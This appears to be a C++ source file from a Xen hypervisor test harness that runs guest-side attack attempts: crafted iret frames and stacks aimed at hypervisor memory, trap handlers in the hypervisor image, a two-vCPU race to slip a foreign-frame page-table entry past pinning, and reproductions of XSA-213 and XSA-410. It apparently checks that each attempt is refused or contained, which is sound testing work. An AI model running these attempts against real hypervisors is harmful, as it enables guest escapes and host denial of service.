// SPDX-License-Identifier: Apache-2.0
// Attempts that end the domain, each run in one of its own: returns, stacks and roots that cannot
// be gone on from, and pages that two vCPUs race for.
#include "attempt.hpp"

#include <xenpp/abi/vcpu.hpp>
#include <xenpp/abi/version.hpp>
#include <xenpp/base/atomic.hpp>

namespace attack {

namespace {

/// iret by hypercall with this frame; `flags` VGCF_in_syscall returns by SYSRET.
[[noreturn]] void iret_to(std::uint64_t rip,
                          std::uint64_t rsp,
                          std::uint64_t cs,
                          std::uint64_t ss,
                          std::uint64_t rflags,
                          std::uint64_t flags) noexcept {
    abi::iret_context frame{.rax = 0,
                            .r11 = rflags,
                            .rcx = rip,
                            .flags = flags,
                            .rip = rip,
                            .cs = cs,
                            .rflags = rflags,
                            .rsp = rsp,
                            .ss = ss};
    asm volatile("movq %0, %%rsp\n\tmovl $23, %%eax\n\tsyscall\n\tud2" : : "r"(&frame) : "memory");
    __builtin_unreachable();
}

/// Where an iret leads to that is allowed.
void stop_here() noexcept {
    asm volatile("ud2");
}

/// The end of a page of ours: a fault can be pushed there.
std::uint64_t good_stack() noexcept {
    static auto* const page = new_page();
    return to_argument(page) + xenpp::page_size;
}

template <class F>
outcome unless_it_ends(F f) noexcept {
    return faults(f);
}

/// A fault with the stack pointer where the frame may not be pushed.
outcome fault_on_stack(std::uint64_t stack) noexcept {
    asm volatile("movq %0, %%rsp\n\tud2" : : "r"(stack) : "memory");
    return {};
}

/// Gives processes page tables, the kernel's own; from now on an iret may lead to one.
void have_processes() noexcept {
    mmuext(abi::mmuext_cmd::new_user_baseptr, root_table());
}

outcome stack_switch_and_enter(std::uint64_t stack) noexcept {
    have_processes();
    hypercall(abi::hypercall::stack_switch, std::uint64_t{abi::flat_kernel_ss}, stack);
    // From user mode the frame goes to that stack; there is no user root, so this is refused or
    // ends.
    return unless_it_ends([] {
        iret_to(to_argument(&stop_here), good_stack(), abi::flat_user_cs, abi::flat_user_ss, 0x200,
                0);
    });
}

/// Two vCPUs: one writes a word of a table into a page while the other has it pinned.
std::uint64_t* raced_page = nullptr;
std::uint32_t stop_racing = 0;

outcome race() noexcept {
    raced_page = new_page();
    if (start_vcpu(1, 0) != 0) {
        return {};
    }
    auto const bad = make_entry(foreign_frame(), pte_rw);
    unsigned pinned = 0;
    for (unsigned i = 0; i != 20'000; ++i) {
        set_writable(raced_page, false);
        if (mmuext(abi::mmuext_cmd::pin_l1_table, mfn_of(raced_page)) == 0) {
            ++pinned;
            if (raced_page[0] == bad) {
                return {}; // a table with a foreign frame passed validation
            }
            mmuext(abi::mmuext_cmd::unpin_table, mfn_of(raced_page));
        }
        set_writable(raced_page, true);
    }
    xenpp::atomic_store(stop_racing, 1U);
    return harmless_if(true);
}

/// IOPL and VM of an iret's frame are dropped: what runs then has neither.
outcome raise_iopl_by_iret() noexcept {
    constexpr std::uint64_t iopl_and_vm = 0x23000;
    auto const o = unless_it_ends([] {
        iret_to(to_argument(&stop_here), good_stack(), return_to_kernel, abi::flat_kernel_ss,
                0x200 | iopl_and_vm, 0);
    });
    return (last_fault.rflags & iopl_and_vm) == 0 ? o : outcome{};
}

/// XSA-410: all memory as pinned tables that hang together, left behind for the domain's end.
outcome tables_left_behind() noexcept {
    constexpr unsigned tables = 1000;
    auto* const window_page = window();
    auto const readable = mfn_of(new_page());
    unsigned pinned = 0;
    for (unsigned i = 0; i != tables; ++i) {
        auto const f = unmapped_frame();
        update_va(window_page, make_entry(f, pte_rw));
        auto* const content = static_cast<std::uint64_t volatile*>(window_page);
        for (unsigned e = 0; e != 512; ++e) {
            content[e] = make_entry(readable, pte_ro);
        }
        update_va(window_page, 0);
        pinned += mmuext(abi::mmuext_cmd::pin_l1_table, f) == 0 ? 1U : 0U;
    }
    return harmless_if(pinned == tables);
}

/// XSA-213: a multicall that changes what it runs on, with calls that follow.
outcome iret_in_a_multicall() noexcept {
    static abi::multicall_entry e[2];
    static std::uint64_t answer[2];
    e[0].op = static_cast<std::uint64_t>(abi::hypercall::iret);
    e[1].op = static_cast<std::uint64_t>(abi::hypercall::xen_version);
    e[1].args[0] = static_cast<std::uint64_t>(abi::version_op::get_features);
    e[1].args[1] = to_argument(static_cast<std::uint64_t*>(answer));
    auto const r = hypercall(abi::hypercall::multicall, static_cast<abi::multicall_entry*>(e), 2);
    return refused_if_negative(r < 0 ? r : static_cast<std::int64_t>(e[0].result));
}

constexpr attempt list[] = {
    {"xsa213_iret_in_a_multicall", iret_in_a_multicall},
    {"xsa410_tables_left_behind", tables_left_behind},
    {"iret_rip_non_canonical",
     []() noexcept {
         return unless_it_ends([] {
             iret_to(non_canonical, good_stack(), return_to_kernel, abi::flat_kernel_ss, 0x200, 0);
         });
     }},
    {"iret_rip_in_the_hypervisor",
     []() noexcept {
         return unless_it_ends([] {
             iret_to(image_address, good_stack(), return_to_kernel, abi::flat_kernel_ss, 0x200, 0);
         });
     }},
    {"iret_by_sysret_non_canonical",
     []() noexcept {
         have_processes();
         return unless_it_ends([] {
             iret_to(non_canonical, good_stack(), abi::flat_user_cs, abi::flat_user_ss, 0x200,
                     abi::vgcf_in_syscall);
         });
     }},
    {"iret_cs_of_the_hypervisor",
     []() noexcept {
         return unless_it_ends([] {
             iret_to(to_argument(&stop_here), good_stack(), 0xe008, abi::flat_kernel_ss, 0x200, 0);
         });
     }},
    {"iret_by_sysret_into_the_hypervisor",
     []() noexcept {
         have_processes();
         return unless_it_ends([] {
             iret_to(image_address, image_address, abi::flat_user_cs, abi::flat_user_ss, 0x200,
                     abi::vgcf_in_syscall);
         });
     }},
    {"iret_ss_ring_0",
     []() noexcept {
         return unless_it_ends([] {
             iret_to(to_argument(&stop_here), good_stack(), return_to_kernel, 0xe010, 0x200, 0);
         });
     }},
    {"iret_rflags_iopl_and_vm", raise_iopl_by_iret},
    {"iret_frame_in_the_hypervisor",
     []() noexcept {
         return unless_it_ends([] {
             asm volatile("movq %0, %%rsp\n\tmovl $23, %%eax\n\tsyscall\n\tud2"
                          :
                          : "r"(image_address));
         });
     }},
    {"iret_frame_non_canonical",
     []() noexcept {
         return unless_it_ends([] {
             asm volatile("movq %0, %%rsp\n\tmovl $23, %%eax\n\tsyscall\n\tud2"
                          :
                          : "r"(non_canonical));
         });
     }},
    {"fault_on_a_stack_in_the_hypervisor",
     []() noexcept { return fault_on_stack(image_address + 0x1000); }},
    {"fault_on_a_stack_in_the_direct_map",
     []() noexcept { return fault_on_stack(direct_map_address); }},
    {"fault_on_a_non_canonical_stack", []() noexcept { return fault_on_stack(non_canonical); }},
    {"fault_on_a_stack_that_reaches_the_hypervisor",
     []() noexcept { return fault_on_stack(0xffff880000000008); }},
    {"fault_on_an_unmapped_stack", []() noexcept { return fault_on_stack(0x2000); }},
    {"stack_switch_into_the_hypervisor",
     []() noexcept { return stack_switch_and_enter(image_address + 0x1000); }},
    {"handler_in_the_hypervisor",
     []() noexcept {
         abi::trap_info t[2]{};
         t[0].vector = 6;
         t[0].cs = abi::flat_kernel_cs;
         t[0].address = image_address;
         hypercall(abi::hypercall::set_trap_table, static_cast<abi::trap_info*>(t));
         asm volatile("ud2");
         return outcome{};
     }},
    {"no_trap_table",
     []() noexcept {
         hypercall(abi::hypercall::set_trap_table, std::uint64_t{0});
         asm volatile("ud2");
         return outcome{};
     }},
    {"unmap_the_code_that_runs",
     []() noexcept {
         update_va(at<void>(to_argument(&fault_on_stack) & ~std::uint64_t{0xfff}), 0,
                   abi::uvmf_tlb_flush);
         return outcome{};
     }},
    {"race_for_a_table", race},
};

} // namespace

std::span<attempt const> last_attempts() noexcept {
    return list;
}

} // namespace attack

void guest::second_test(std::uint64_t argument) noexcept {
    using namespace attack;
    if (argument == writes_roots) {
        write_roots_for_others();
    }
    if (argument == unmasks_for_ever) {
        unmask_for_ever();
    }
    auto const bad = make_entry(foreign_frame(), pte_rw);
    while (xenpp::atomic_load(stop_racing) == 0) {
        // Faults where it is read-only, which is the point.
        guarded([&] { *const_cast<std::uint64_t volatile*>(raced_page) = bad; });
        guarded([&] { *const_cast<std::uint64_t volatile*>(raced_page) = 0; });
    }
}
